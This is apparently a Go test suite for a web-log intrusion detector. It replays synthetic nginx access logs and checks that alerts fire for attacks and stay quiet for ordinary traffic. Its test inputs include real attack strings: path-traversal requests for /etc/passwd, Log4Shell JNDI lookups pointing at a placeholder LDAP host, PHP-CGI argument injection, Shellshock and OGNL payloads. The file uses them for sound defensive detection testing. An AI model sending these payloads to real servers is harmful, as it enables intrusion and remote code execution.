package rules_test

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"tocsin.example"
	"tocsin.example/internal/app"
	"tocsin.example/internal/cond"
	"tocsin.example/internal/datafile"
	"tocsin.example/internal/detect"
	"tocsin.example/internal/diag"
	"tocsin.example/internal/hub"
	"tocsin.example/internal/inforce"
	"tocsin.example/internal/rule"
	"tocsin.example/internal/stash"
	"tocsin.example/rules"
)

// httpAsk is one line of an access log but its address and time.
type httpAsk struct {
	verb, path string
	status     int
	agent      string // "" for a browser
}

// httpClient is somebody who makes requests.
type httpClient struct {
	address func(i int) string // of the request of this number
	every   time.Duration
	asks    []httpAsk
}

func at(address string) func(int) string { return func(int) string { return address } }

// access writes what clients ask for as nginx's log.
func access(clients ...httpClient) []string {
	var s story
	start := time.Date(2026, 8, 22, 10, 0, 0, 0, time.UTC)
	for _, c := range clients {
		for i, r := range c.asks {
			agent := r.agent
			if agent == "" {
				agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
			}
			when := start.Add(time.Duration(i) * c.every)
			s.lines = append(s.lines, moment{when, fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %d 146 "-" "%s"`,
				c.address(i), when.Format("02/Jan/2006:15:04:05 -0700"), r.verb, r.path, r.status, agent)})
		}
	}
	return strings.Split(strings.TrimSpace(s.text()), "\n")
}

// times repeats a request, with the number of the time for each %d of its path.
func times(n int, verb, path string, status int) []httpAsk {
	var out []httpAsk
	for i := range n {
		p := path
		if count := strings.Count(path, "%d"); count > 0 {
			numbers := make([]any, count)
			for j := range numbers {
				numbers[j] = i
			}
			p = fmt.Sprintf(path, numbers...)
		}
		out = append(out, httpAsk{verb, p, status, ""})
	}
	return out
}

// What an attacker asks for once is found however it is written.
func TestOneRequestIsEnough(t *testing.T) {
	e := engine(t)
	f := func(r httpAsk, want string) {
		t.Helper()
		for _, address := range []string{"198.51.100.9", "2001:db8:bad::9"} {
			alerts, _ := replay(t, e, "nginx", access(httpClient{at(address), time.Second, []httpAsk{r}}))
			got := strings.Join(alerts, ", ")
			if want != "" {
				want := "tocsin/" + want + " " + address
				if got != want {
					t.Errorf("%s\n got %q\nwant %q", r.path+r.agent, got, want)
				}
				continue
			}
			if got != "" {
				t.Errorf("%s%s: %s", r.path, r.agent, got)
			}
		}
	}
	get := func(path string) httpAsk { return httpAsk{"GET", path, 404, ""} }
	calls := func(agent string) httpAsk { return httpAsk{"GET", "/", 200, agent} }
	f(get("/cgi-bin/.%2e/.%2e/etc/passwd"), "http-cve")
	f(get("/cgi-bin/%2e%2e/etc/passwd"), "http-cve")
	f(get("/CGI-BIN/%252E%252E/etc/passwd"), "http-cve")
	f(get("/cgi-bin/%%32%65%%32%65/etc/passwd"), "http-cve")
	f(get("/%%32%65%%32%65/etc/passwd"), "http-cve")
	f(get("/cgi-bin/.%2e/?x=%"), "http-cve") // one bad escape does not help
	f(get("/?a=%zz&redirect:${1}&class.module.classLoader.x=1"), "http-cve")
	f(get("/?class.module.classLoader%2Eresources=1"), "http-cve")
	f(get("/?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"), "http-cve")
	f(get("/index.php?-d+allow_url_include%3d1"), "http-cve")
	f(get("/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp"), "http-cve")
	f(get("/$%7B(%23a=@org.apache.commons.io.IOUtils@toString(x))%7D/"), "http-cve")
	f(calls("${jndi:ldap://192.0.2.200/a}"), "http-lookups")
	f(calls("${${lower:J}ndi:${lower:L}dap://192.0.2.200/a}"), "http-lookups")
	f(get("/?x=%24%7Bjndi:ldap://192.0.2.200/a%7D"), "http-lookups")
	f(get("/?x=${${::-j}${::-n}di:rmi://192.0.2.200/a}&y=%"), "http-lookups")
	f(get("/search?q=%24%7Bjndi"), "")
	f(calls("() { :; }; /bin/id"), "http-shell-function")
	f(get("/w00tw00t.at.ISC.SANS.DFind:)"), "http-w00tw00t")
	// None of these is an attack by itself.
	f(get("/phpmyadmin/"), "")
	f(get("/wp-login.php"), "")
	f(get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), "")
	f(get("/search?q=1'+or+'1'='1"), "")
	f(get("/blog/cve-2021-44228-jndi-ldap"), "")
	f(get("/.env"), "")
	f(calls("curl/8.5.0"), "")
	f(calls(""), "")
	f(calls("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), "")
}

// Thresholds: what is found, and what is just not.
func TestHTTPThresholds(t *testing.T) {
	e := engine(t)
	f := func(c httpClient, want ...string) {
		t.Helper()
		alerts, _ := replay(t, e, "nginx", access(c))
		slices.Sort(alerts)
		if got := slices.Compact(alerts); !slices.Equal(got, want) {
			t.Errorf("%d times %v, every %s\n got %q\nwant %q", len(c.asks), c.asks[0], c.every, got, want)
		}
	}
	a := at("198.51.100.9")
	// One /64 is one client; its neighbour is another.
	inside := func(i int) string { return fmt.Sprintf("2001:db8:bad::%x", i%5+1) }
	apart := func(i int) string { return fmt.Sprintf("2001:db8:bad:%x::1", i%5+1) }
	wrong := func(n int) []httpAsk { return times(n, "POST", "/login", 401) }
	f(httpClient{a, time.Second, wrong(8)})
	f(httpClient{a, time.Second, wrong(10)}, "tocsin/http-login-bf 198.51.100.9")
	f(httpClient{inside, time.Second, wrong(10)}, "tocsin/http-login-bf 2001:db8:bad::1", "tocsin/http-login-bf 2001:db8:bad::2",
		"tocsin/http-login-bf 2001:db8:bad::3", "tocsin/http-login-bf 2001:db8:bad::4", "tocsin/http-login-bf 2001:db8:bad::5")
	f(httpClient{apart, time.Second, wrong(30)})
	f(httpClient{a, 11 * time.Second, wrong(14)})
	f(httpClient{a, 2 * time.Minute, wrong(30)}, "tocsin/http-login-slow-bf 198.51.100.9")
	f(httpClient{a, 6 * time.Minute, wrong(60)})
	f(httpClient{a, time.Minute, slices.Concat(wrong(10), times(1, "POST", "/login", 302), wrong(10), times(1, "POST", "/login", 200), wrong(10))})
	f(httpClient{a, time.Second, times(60, "POST", "/api/auth/refresh", 401)})
	f(httpClient{a, time.Second, times(60, "GET", "/login", 401)})

	// Pages that do not exist: in many places, in one, or in the middle of what exists.
	f(httpClient{a, time.Second, times(20, "GET", "/name%d", 404)}, "tocsin/http-probing 198.51.100.9")
	f(httpClient{a, time.Second, times(20, "GET", "/name%d", 403)})
	f(httpClient{a, time.Second, times(60, "GET", "/covers/name%d", 404)})
	f(httpClient{a, time.Second / 5, times(80, "GET", "/shop/name%d", 404)}, "tocsin/http-fuzzing 198.51.100.9")
	f(httpClient{a, time.Second / 5, times(80, "GET", "/covers/thumb/name%d", 404)})
	f(httpClient{a, time.Second / 5, times(80, "GET", "/api/items/%d", 404)})
	f(httpClient{a, time.Second / 5, times(80, "PROPFIND", "/name%d", 404)})
	f(httpClient{a, time.Second / 5, slices.Concat(times(60, "GET", "/shop/name%d", 404), times(10, "GET", "/shop/there%d", 200), times(10, "GET", "/shop/other%d", 404))})

	// Pages that exist.
	f(httpClient{a, time.Second / 4, times(130, "GET", "/wiki/Page_%d", 200)}, "tocsin/http-crawl 198.51.100.9")
	f(httpClient{a, time.Second, times(400, "GET", "/wiki/Page_%d", 200)})
	var browser []httpAsk
	for i := range 130 {
		browser = append(browser, httpAsk{"GET", fmt.Sprintf("/wiki/Page_%d", i), 200, ""})
		if i%40 == 0 {
			browser = append(browser, httpAsk{"GET", "/style.css", 304, ""})
		}
	}
	f(httpClient{a, time.Second / 4, browser})
	f(httpClient{a, time.Second / 20, times(1500, "GET", "/api/assets/%d/thumbnail", 200)})
	f(httpClient{a, time.Second / 20, times(1500, "POST", "/graphql", 200)})
	f(httpClient{a, time.Second / 20, times(500, "GET", "/Items/%d/Images/Primary", 200)})
	f(httpClient{a, time.Second / 20, times(500, "GET", "/simple/package-%d/", 200)})

	// Floods.
	f(httpClient{a, time.Second / 200, times(2600, "GET", "/", 200)}, "tocsin/http-flood 198.51.100.9")
	f(httpClient{a, time.Second / 35, times(9000, "GET", "/", 200)})
	f(httpClient{a, time.Second / 100, times(600, "POST", "/contact", 200)}, "tocsin/http-post-flood 198.51.100.9")
	f(httpClient{a, time.Second / 10, times(900, "POST", "/contact", 200)})
	f(httpClient{a, time.Second / 10, times(90, "GET", "/a.html?%d7919", 200)}, "tocsin/http-cache-busting 198.51.100.9")
	f(httpClient{a, time.Second / 10, times(900, "GET", "/poll?_=%d7919", 200)})
	f(httpClient{a, time.Second / 10, times(900, "GET", "/core/preview?fileId=%d&x=256&y=256", 200)})

	// WordPress.
	f(httpClient{a, time.Second, times(6, "POST", "/wp-login.php", 200)})
	f(httpClient{a, time.Second, times(8, "POST", "/wp-login.php", 200)}, "tocsin/http-wordpress-bf 198.51.100.9")
	f(httpClient{a, 15 * time.Second, slices.Concat(times(5, "POST", "/wp-login.php", 200), times(1, "POST", "/wp-login.php", 302), times(5, "POST", "/wp-login.php", 200))})
	f(httpClient{a, 15 * time.Second, times(200, "POST", "/wp-admin/admin-ajax.php", 200)})
	f(httpClient{a, time.Second, times(35, "POST", "/xmlrpc.php", 200)})
	f(httpClient{a, time.Second, times(60, "POST", "/xmlrpc.php", 200)}, "tocsin/http-wordpress-xmlrpc-bf 198.51.100.9")
	f(httpClient{a, time.Second, times(8, "GET", "/?author=%d", 301)}, "tocsin/http-wordpress-user-enum 198.51.100.9")
	f(httpClient{a, time.Second, times(8, "GET", "/books?author=%d", 200)})
	f(httpClient{a, time.Second, times(8, "GET", "/wp-content/plugins/p%d/readme.txt", 404)}, "tocsin/http-wordpress-scan 198.51.100.9")
	f(httpClient{a, time.Second, times(8, "GET", "/wp-content/plugins/p%d/readme.txt", 200)})
}

// An office: two hundred browsers behind one address, of which one mistypes every minute, for an hour.
func TestOfficeBehindOneAddress(t *testing.T) {
	var asks []httpAsk
	for i := range 3600 {
		asks = append(asks, httpAsk{"GET", fmt.Sprintf("/docs/%d/%d", i%97, i), 200, ""}, httpAsk{"GET", "/app.css", 304, ""},
			httpAsk{"GET", fmt.Sprintf("/api/items/%d", i), 200, ""}, httpAsk{"POST", "/graphql", 200, ""})
		switch {
		case i%60 == 0:
			asks = append(asks, httpAsk{"POST", "/login", 401, ""})
		case i%60 == 20:
			asks = append(asks, httpAsk{"POST", "/login", 302, ""})
		case i%50 == 0:
			asks = append(asks, httpAsk{"GET", fmt.Sprintf("/gone/%d", i), 404, ""}, httpAsk{"POST", "/api/auth/refresh", 401, ""})
		}
	}
	alerts, stats := replay(t, engine(t), "nginx", access(httpClient{at("198.51.100.200"), time.Second / 4, asks}))
	if len(alerts) > 0 || stats.Poured == 0 {
		t.Errorf("%d poured, found %v", stats.Poured, alerts)
	}
}

// Who is under a decision is asked no more: the refusals that it gets are ours.
func TestUnderDecision(t *testing.T) {
	for _, file := range glob(t, "scenarios/tocsin/http-*.yaml") {
		text, err := fs.ReadFile(rules.FS(), file)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(text), "'http_access-log'") && !strings.Contains(string(text), "evt.Meta.under_decision != 'true'") {
			t.Errorf("%s counts what comes under a decision", file)
		}
	}
}

// Signs are looked for in a text in small letters, each once.
func TestSigns(t *testing.T) {
	for _, file := range glob(t, ".data/*.txt") {
		seen := map[string]bool{}
		for _, sign := range signs(t, file) {
			small := sign
			if strings.HasPrefix(sign, "{") {
				_, small, _ = strings.Cut(sign, `"sign": `)
			}
			if seen[sign] || small != strings.ToLower(small) || strings.TrimSpace(sign) == "" {
				t.Errorf("%s: %q is there twice, empty, or has capital letters", file, sign)
			}
			seen[sign] = true
		}
	}
}

// Each sign of a known fault is found, and the alert says which fault it is.
func TestFaultsAreNamed(t *testing.T) {
	e, faults := engine(t), map[string]bool{}
	f := func(file, scenario string, status int, others ...string) {
		t.Helper()
		for _, line := range signs(t, file) {
			var sign struct{ CVE, Sign string }
			if err := json.Unmarshal([]byte(line), &sign); err != nil || !strings.HasPrefix(sign.CVE, "CVE-") || len(sign.Sign) < 6 {
				t.Errorf("%s: %s: %v", file, line, err)
			}
			faults[sign.CVE] = true
			path := sign.Sign
			if !strings.HasPrefix(path, "/") {
				path = "/x?y=1&" + strings.TrimPrefix(path, "?")
				if strings.HasPrefix(sign.Sign, "?") {
					path = "/x" + sign.Sign
				}
			}
			path = strings.NewReplacer(" ", "+", "#", "%23", "{", "%7B", "<", "%3C").Replace(path)
			asks := []httpAsk{{"GET", path, status, ""}}
			for _, other := range others {
				asks = append(asks, httpAsk{"GET", other, status, ""})
			}
			var named []string
			core := e.NewCore(nil)
			core.OnAlert = func(a *tocsin.Alert) {
				if a.Scenario == scenario {
					named = append(named, a.Events[0].GetMeta("cve"))
				}
			}
			worker, it := e.NewWorker(nil, nil), e.NewItem()
			for i, line := range access(httpClient{at("198.51.100.9"), time.Second, asks}) {
				worker.Work(it, uint64(i+1), lineOf("nginx", line))
				core.Settle(it)
			}
			core.Finish()
			if !slices.Equal(named, []string{sign.CVE}) {
				t.Errorf("%s: %s names %v, want %s", scenario, path, named, sign.CVE)
			}
		}
	}
	f(".data/http-cve.txt", "tocsin/http-cve", 200)
	f(".data/http-cve-paths.txt", "tocsin/http-cve-probing", 404, "/cgi-bin/nas_sharing.cgi", "/cli?remoting=false")
	if len(faults) < 150 {
		t.Errorf("%d faults", len(faults))
	}
}

// signs are the lines of a data file.
func signs(t *testing.T, file string) (out []string) {
	t.Helper()
	text, err := fs.ReadFile(rules.FS(), file)
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(text)) {
		if line = strings.TrimSuffix(line, "\n"); line != "" && line[0] != '#' {
			out = append(out, line)
		}
	}
	return out
}

// names is a DNS of some addresses.
type names map[string]string

func (n names) LookupHost(string) ([]string, error) { return nil, nil }

func (n names) ConfirmedNames(addr netip.Addr) ([]string, error) {
	if name, ok := n[addr.String()]; ok {
		return []string{name}, nil
	}
	return nil, nil
}

// A crawler is known by what DNS says of its address, not by what it says of itself.
func TestGoodCrawlers(t *testing.T) {
	problems := &diag.List{}
	h, err := hub.Open(rules.FS(), problems)
	if err != nil {
		t.Fatal(err)
	}
	set := h.ResolveAll(problems)
	library, err := app.Patterns()
	if err != nil {
		t.Fatal(err)
	}
	data, _ := h.Data()
	host := &cond.Host{Now: func() time.Time { return now }, Stash: stash.New(), Decisions: inforce.New(), DNS: names{
		"198.51.100.1": "crawl-198-51-100-1.googlebot.com", "198.51.100.2": "evilgooglebot.com", "198.51.100.3": "googlebot.com.example.net",
		"2001:db8:5::1": "msnbot-1.search.msn.com", "198.51.100.5": "fwdproxy-1.fbsv.net",
	}}
	e, err := detect.Load(detect.Rules{
		Parsers: set.Parsers, Postoverflows: set.Postoverflows, Scenarios: set.Scenarios, Patterns: library,
		LoadData: func(wanted []rule.Data, problems *diag.List) {
			files := datafile.New(datafile.Place{Name: ".data", FS: data, Mirror: true})
			files.Load(wanted, problems)
			host.Files = files
		},
	}, detect.Options{Host: host, Ledger: inforce.New(), Fast: true}, problems)
	if err != nil || len(problems.Problems()) > 0 {
		t.Fatal(err, problems.Problems())
	}
	f := func(address string, want bool) {
		t.Helper()
		asks := times(20, "GET", "/gone%d", 404)
		for i := range asks {
			asks[i].agent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
		}
		alerts, stats := replay(t, e, "nginx", access(httpClient{at(address), time.Second, asks}))
		if stats.Overflows == 0 || (len(alerts) == 0) != want {
			t.Errorf("%s: %d overflows, alerts %v; want it let off: %t", address, stats.Overflows, alerts, want)
		}
	}
	f("198.51.100.1", true)
	f("198.51.100.5", true)
	f("2001:db8:5::1", true)
	f("198.51.100.2", false)
	f("198.51.100.3", false)
	f("198.51.100.4", false)
}
